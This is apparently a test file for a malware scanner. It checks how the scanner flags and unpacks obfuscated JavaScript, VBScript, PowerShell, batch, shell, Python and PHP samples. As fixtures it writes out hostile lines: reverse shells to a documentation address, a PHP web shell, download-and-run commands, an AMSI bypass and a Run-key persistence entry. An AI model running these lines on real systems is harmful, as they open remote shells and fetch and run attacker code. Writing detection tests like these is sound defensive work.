import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import { gzipSync } from 'node:zlib'
import fc from 'fast-check'
import { Unscanned } from '../../../src/domain/verdict.ts'
import { scriptOpener } from '../../../src/unpack/scripts/scripts.ts'
import { wsfOpener } from '../../../src/unpack/scripts/wsf.ts'
import { nodeOf, recordingRun } from '../recording-run.ts'
import { encodeScript } from './encode-script.ts'

async function looked(text: string | Buffer, type: string, opener = scriptOpener()) {
  const run = recordingRun()
  await opener.open(nodeOf(Buffer.from(text), { type, fileName: `sample.${type}` }), run)
  return run
}

const wide = (text: string) => Buffer.from(text, 'utf16le').toString('base64')
const PROGRAM = Buffer.concat([
  Buffer.from('MZ'),
  Buffer.alloc(58),
  Buffer.from([64, 0, 0, 0]),
  Buffer.from('PE\0\0'),
  Buffer.alloc(200),
])

describe('what a script does', () => {
  const SHELL = 'CreateObject("WScript.Shell")'
  const cases: readonly { text: string; type: string; findings: string[]; because: string }[] = [
    { text: 'function f(a){return a.map(x=>x+1)}', type: 'js', findings: [], because: 'it only counts' },
    { text: 'eval(function(p,a,c,k,e,d){return p}("0 1",2,2,"a|b".split("|"),0,{}))', type: 'js', findings: [], because: 'a packer of libraries is no harm' },
    { text: `Set s = ${SHELL}\ns.Popup "hi"`, type: 'vbs', findings: [], because: 'a shell object alone shows a box' },
    { text: `Set s = ${SHELL}\nSet x = CreateObject("MSXML2.XMLHTTP")\nSet a = CreateObject("ADODB.Stream")\ns.Run "a.exe"`, type: 'vbs', findings: ['Script.Dropper high'], because: 'it fetches, saves and runs' },
    { text: `${SHELL}.Run "powershell -w hidden -c x", 0`, type: 'vbs', findings: ['Script.HiddenPowerShell high'], because: 'the window is hidden' },
    { text: 'Set s = CreateObject("WScr" & "ipt.She" & Chr(108) & "l")\ns.Run "m" & "shta x"', type: 'vbs', findings: ['Script.HiddenCalls high'], because: 'words were taken apart' },
    { text: 'iex (New-Object Net.WebClient).DownloadString("http://a.example/x")', type: 'ps1', findings: ['PowerShell.DownloadRun medium'], because: 'installers do so too' },
    { text: 'Invoke-WebRequest http://a.example/x.zip -OutFile x.zip\nExpand-Archive x.zip', type: 'ps1', findings: [], because: 'a download is no harm' },
    { text: '[Ref].Assembly.GetType("System.Management.Automation.AmsiUtils").GetField("amsiInitFailed","NonPublic,Static").SetValue($null,$true)', type: 'ps1', findings: ['PowerShell.AmsiBypass high'], because: 'it switches scanning off' },
    { text: `powershell -nop -w hidden -enc ${wide('Write-Host "harmless marker"')}`, type: 'bat', findings: ['PowerShell.Encoded high'], because: 'encoded and hidden' },
    { text: '@echo off\r\nset q=certu\r\nset r=til\r\n%q%%r% -urlcache -f http://198.51.100.1/a.exe %TEMP%\\a.exe\r\nstart %TEMP%\\a.exe', type: 'bat', findings: ['Batch.FetchAndStart high', 'Windows.CertutilFetch medium'], because: 'variables hid certutil' },
    { text: 'm^s^h^t^a ht^tp://a.example/x.hta', type: 'bat', findings: ['Script.HiddenCalls medium', 'Windows.MshtaRemote high'], because: 'carets hid mshta' },
    { text: '@echo off\r\nif not exist "%ProgramFiles%\\x" mkdir x\r\nstart notepad', type: 'bat', findings: [], because: 'everyday batch' },
    { text: 'bash -i >& /dev/tcp/198.51.100.1/443 0>&1', type: 'sh', findings: ['Shell.ReverseShell high'], because: 'a reverse shell' },
    { text: 'exec 5<>/dev/tcp/198.51.100.1/443\nsh <&5 >&5 2>&5', type: 'sh', findings: ['Shell.ReverseShell high'], because: 'a shell over a descriptor' },
    { text: 'if (exec 3<>/dev/tcp/localhost/80) 2>/dev/null; then echo up; fi', type: 'sh', findings: [], because: 'it asks whether a port is open' },
    { text: 'curl -fsSL https://sh.example.org | sh', type: 'sh', findings: [], because: 'installers are called so' },
    { text: 'cd /tmp; wget http://198.51.100.1/a.sh; chmod 777 a.sh; ./a.sh', type: 'sh', findings: ['Shell.FetchFromAddress high'], because: 'bots spread so' },
    { text: 'import socket,os,pty\ns=socket.socket();s.connect(("198.51.100.1",4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nos.dup2(s.fileno(),0)\npty.spawn("/bin/sh")', type: 'py', findings: ['Python.ReverseShell high'], because: 'a reverse shell' },
    { text: 'import zlib,base64\nexec(zlib.decompress(base64.b64decode("eJw=")))', type: 'py', findings: ['Python.RunsDecoded medium'], because: 'it runs packed text' },
    { text: '<?php @eval(base64_decode($x));', type: 'php', findings: ['Php.RunsHiddenCode high'], because: 'a packed web shell' },
    { text: '<?php system($_GET["c"]);', type: 'php', findings: ['Php.RunsRequest high'], because: 'a web shell' },
    { text: '[InternetShortcut]\r\nURL=file://198.51.100.1/s/a.exe\r\n', type: 'url', findings: ['Shortcut.RemoteProgram high'], because: 'it starts a program on a share' },
    { text: '[InternetShortcut]\r\nURL=https://example.org/\r\n', type: 'url', findings: [], because: 'a bookmark' },
    { text: 'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\Software\\Microsoft\\Windows\\CurrentVersion\\Run]\r\n"a"="mshta x"', type: 'reg', findings: ['Registry.RunsCommand high'], because: 'a Run key with mshta' },
    { text: 'WEB\r\n1\r\nhttp://a.example/x\r\n', type: 'iqy', findings: ['Query.Web medium'], because: 'mails carry these to do harm' },
  ] // biome-ignore format: a table
  for (const { text, type, findings, because } of cases) {
    it(`gives [${findings}] for ${type}: ${because}`, async () => {
      const run = await looked(text, type)
      assert.deepEqual(run.findings.map(({ name, risk }) => `${name} ${risk}`).sort(), findings)
      for (const { attack, detail } of run.findings) {
        assert.match(attack, /^T\d{4}(\.\d{3})?$/)
        assert.ok(detail.length <= 300)
      }
    })
  }

  it('gives the byte offset, in UTF-16 too', async () => {
    const line = 'Write-Host 1\r\n'
    const text = `${line}x = "amsiInitFailed" [Ref]`
    assert.equal((await looked(text, 'ps1')).findings[0]?.offset, text.indexOf('amsi'))
    const bytes = Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])
    assert.equal((await looked(bytes, 'ps1')).findings[0]?.offset, 2 + 2 * text.indexOf('amsi'))
  })
})

describe('what a script hides', () => {
  const marker = 'harmless-marker-text'
  const unfolding: readonly { text: string; type: string; because: string }[] = [
    { text: 'x = "harm" + "less-" + \'marker\' + "-text"', type: 'js', because: 'literals are joined' },
    { text: 'var a="harmless";var b="-marker";f(a+b+"-text")', type: 'js', because: 'variables hold the parts' },
    { text: 'x = "\\x68armless\\u002dmarker" + "-text"', type: 'js', because: 'of escapes' },
    { text: `x = String.fromCharCode(${[...marker].map((char) => char.charCodeAt(0))})`, type: 'js', because: 'character codes' },
    { text: `x = unescape("${[...marker].map((char) => `%${char.charCodeAt(0).toString(16)}`).join('')}")`, type: 'js', because: 'percent escapes' },
    { text: `x = atob("${Buffer.from(marker).toString('base64')}")`, type: 'js', because: 'base 64' },
    { text: `x = "${[...marker].reverse().join('')}".split("").reverse().join("")`, type: 'js', because: 'it is turned round' },
    { text: 'x = ["harmless","marker","text"].join("-")', type: 'js', because: 'an array is joined' },
    { text: 'x = "harmQQless-marker-tQQext".replace("QQ", "").replace("QQ", "")', type: 'js', because: 'letters are put between' },
    { text: 'x = "harmless" & Chr(45) & "mark" & Chr(&H65) & "r-text"', type: 'vbs', because: 'Chr is joined' },
    { text: `x = StrReverse("${[...marker].reverse().join('')}")`, type: 'vbs', because: 'StrReverse' },
    { text: 'x = Replace("harmless#marker#text", "#", "-")', type: 'vbs', because: 'Replace' },
    { text: "x = 'harmless' + '-marker' + '-text'", type: 'ps1', because: 'literals are joined' },
    { text: 'x = "{2}-{0}-{1}" -f \'marker\',\'text\',\'harmless\'', type: 'ps1', because: 'the format operator' },
    { text: "x = 'harmless_marker_text' -replace '_','-'", type: 'ps1', because: '-replace' },
    { text: 'x = [char]104 + [char]0x61 + \'rmless-marker-text\'', type: 'ps1', because: '[char]' },
    { text: `x = [Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('${wide(marker)}'))`, type: 'ps1', because: 'UTF-16 in base 64' },
    { text: "x = -join ('harmless','-marker','-text')", type: 'ps1', because: '-join' },
    { text: 'ha`rm`less-ma`rker-text', type: 'ps1', because: 'backticks' },
    { text: 'set a=xharmless-mx\r\nset b=arker\r\necho %a:~1,-1%%b%-text', type: 'bat', because: 'variables are cut and joined' },
    { text: 'h^a^r^m^l^e^s^s^-^m^a^r^k^e^r-text', type: 'bat', because: 'carets' },
    { text: encodeScript('var x = "harmless-marker-text";\r\n'), type: 'vbe', because: 'the script encoder' },
    { text: `<!-- -->${encodeScript('x = "harmless-" & "marker-text" > 1')}`, type: 'vbe', because: 'encoded, and joined' },
  ] // biome-ignore format: a table
  for (const { text, type, because } of unfolding) {
    it(`shows ${type} as a member where ${because}`, async () => {
      const unfolded = (await looked(text, type)).members.find(({ name }) => name.startsWith('unfolded.'))
      assert.ok(unfolded?.bytes.includes(marker), String(unfolded?.bytes))
    })
  }

  it('makes no member where nothing was hidden', async () => {
    assert.deepEqual((await looked('var a = f("x"); g(a + 1)', 'js')).members, [])
    assert.deepEqual((await looked('echo %PATH%\r\nset a=1', 'bat')).members, [])
  })

  const inside = 'WScript.Echo("harmless marker, long enough to be a payload of its own, and a bit more")'
  const payloads: readonly { text: string; type: string; bytes: Buffer; because: string }[] = [
    { text: `x = "${Buffer.from(inside).toString('base64')}"`, type: 'js', bytes: Buffer.from(inside), because: 'base 64' },
    { text: `x = "${Buffer.from(inside).toString('hex')}"`, type: 'vbs', bytes: Buffer.from(inside), because: 'hexadecimal' },
    { text: `x = Array(${[...Buffer.from(inside)].join(', ')})`, type: 'vbs', bytes: Buffer.from(inside), because: 'numbers' },
    { text: `$x = '${gzipSync(inside).toString('base64')}'`, type: 'ps1', bytes: Buffer.from(inside), because: 'gzip in base 64' },
    { text: `x = "${[...Buffer.from(inside).toString('base64')].reverse().join('')}"`, type: 'vbs', bytes: Buffer.from(inside), because: 'base 64 from behind' },
    { text: `x = "${PROGRAM.toString('base64')}"`, type: 'vbs', bytes: PROGRAM, because: 'a program' },
    { text: `x = "${Buffer.from(PROGRAM.map((byte) => byte ^ 0x5a)).toString('base64')}"`, type: 'vbs', bytes: PROGRAM, because: 'a program under one byte' },
  ] // biome-ignore format: a table
  for (const { text, type, bytes, because } of payloads) {
    it(`hands over ${because}`, async () => {
      const run = await looked(text, type)
      assert.ok(
        run.members.some((member) => member.bytes.equals(bytes)),
        run.members.map(({ name }) => name).join(),
      )
      assert.equal(
        run.findings.some(({ name }) => name === 'Script.WrittenProgram'),
        bytes === PROGRAM,
      )
    })
  }

  it('hands over an encoded command as a script', async () => {
    const run = await looked(`powershell -e ${wide('Write-Host harmless')}`, 'bat')
    assert.equal(run.members.find(({ name }) => name === 'command-1.ps1')?.bytes.toString(), 'Write-Host harmless')
  })

  it('tells the addresses that it found', async () => {
    assert.deepEqual((await looked('iwr http://a.example/x -OutFile y', 'ps1')).urls, ['http://a.example/x'])
    assert.deepEqual((await looked('x = "ht" & "tp://b.example/" & "y"', 'vbs')).urls, ['http://b.example/y'])
  })

  it('sees what lies past the first part of a large script', async () => {
    const text = `${'# padding\n'.repeat(500_000)}bash -i >& /dev/tcp/198.51.100.1/443 0>&1`
    assert.equal((await looked(text, 'sh')).findings[0]?.offset, 5_000_000)
  })
})

describe('which scripts are looked into', () => {
  const rows: readonly { text: string; type: string; wants: boolean; because: string }[] = [
    { text: 'String.fromCharCode(65 + i); unescape(x); atob(y); eval("(" + json + ")")', type: 'js', wants: false, because: 'libraries call these with what they got' },
    { text: 'String.fromCharCode(104, 101, 108)', type: 'js', wants: true, because: 'constants follow' },
    { text: 'new ActiveXObject("Microsoft.XMLHTTP")', type: 'js', wants: false, because: 'old browsers fetched so' },
    { text: `${'x'.repeat(100_000)}new ActiveXObject("WScript.Shell")`, type: 'js', wants: true, because: 'the script host stands far inside' },
    { text: 'x', type: 'vbs', wants: true, because: 'they are rare' },
    { text: 'x', type: 'html', wants: false, because: 'pages are looked into by another' },
  ] // biome-ignore format: a table
  for (const { text, type, wants, because } of rows) {
    it(`${wants ? 'wants' : 'leaves'} ${type} because ${because}`, () =>
      assert.equal(scriptOpener().wants(nodeOf(Buffer.from(text), { type })) !== undefined, wants))
  }
})

describe('a Windows script file', () => {
  it('is opened into its scripts', async () => {
    const text =
      '<package><job><script language="VBScript">x = 1</script><script language="JScript"><![CDATA[var y]]></script><script src="http://a.example/z.js"/></job></package>'
    const run = await looked(text, 'wsf', wsfOpener())
    assert.deepEqual(run.members.map(({ name, bytes }) => [name, bytes.toString()]).slice(0, 2), [
      ['script-1.vbs', 'x = 1'],
      ['script-2.js', 'var y'],
    ])
    assert.deepEqual(run.urls, ['http://a.example/z.js'])
  })
})

describe('hostile scripts', () => {
  const TYPES = ['js', 'vbs', 'ps1', 'bat', 'vbe', 'sh', 'py']

  it('ends at once on nesting, endless chains and unclosed strings', async () => {
    const texts = ['[', '("a"+', '(["a",', '"a"+', 'a="x";', "'", '"a', '%a', '#@~^', '$(', '[char]', 'x`', '^', 'a+a+', '-join ']
    for (const text of texts) for (const type of TYPES) await looked(text.repeat(6000), type)
  })

  it('does not let variables grow without bound', async () => {
    const doubling = Array.from({ length: 200 }, (_, i) => `set a${i + 1}=%a${i}%%a${i}%`)
    await looked(['set a0=xxxxxxxx', ...doubling].join('\r\n'), 'bat')
    const joined = Array.from({ length: 200 }, (_, i) => `var a${i + 1}=a${i}+a${i};`)
    await looked(`var a0="xxxxxxxx";${joined.join('')}f(a100+a100)`, 'js')
  })

  it('takes any text', async () => {
    const words = fc.constantFrom('"', "'", '(', ')', '[', ']', '+', '&', '%', '^', '`', 'Chr(', 'atob(', '.join(', ' -f ', '\\x4', '\n', '#@~^', '^#~@', 'a=', 'a', '{0}', '[char]', '$x', '%41', '0x', '&H', ',')
    const text = fc.oneof(fc.string({ unit: 'binary', maxLength: 200 }), fc.array(words, { maxLength: 60 }).map((list) => list.join('')))
    await fc.assert(
      fc.asyncProperty(text, fc.constantFrom(...TYPES), async (source, type) => {
        try {
          await looked(source, type)
        } catch (error) {
          if (!(error instanceof Unscanned)) throw error
        }
      }),
      { numRuns: 800 },
    )
  })
}) // biome-ignore format: long rows
